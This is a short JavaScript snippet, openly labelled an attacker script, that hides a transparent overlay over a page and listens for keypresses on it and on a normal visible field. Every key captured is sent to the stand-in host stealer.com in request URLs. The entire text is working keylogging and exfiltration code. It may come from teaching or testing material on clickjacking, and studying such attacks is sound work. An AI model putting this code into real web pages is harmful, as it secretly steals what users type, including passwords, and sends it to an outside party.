// Attacker script: listens on its own transparent overlay and on a normal
// field, exfiltrating whatever keys it can see.
var ov = document.getElementById("overlay");
ov.addEventListener("keypress", function (e) {
  sendRequest("http://stealer.com/k.jsp?key=" + e.key);
});
var vis = document.getElementById("visible");
vis.addEventListener("keypress", function (e) {
  sendRequest("http://stealer.com/k2.jsp?key=" + e.key);
});
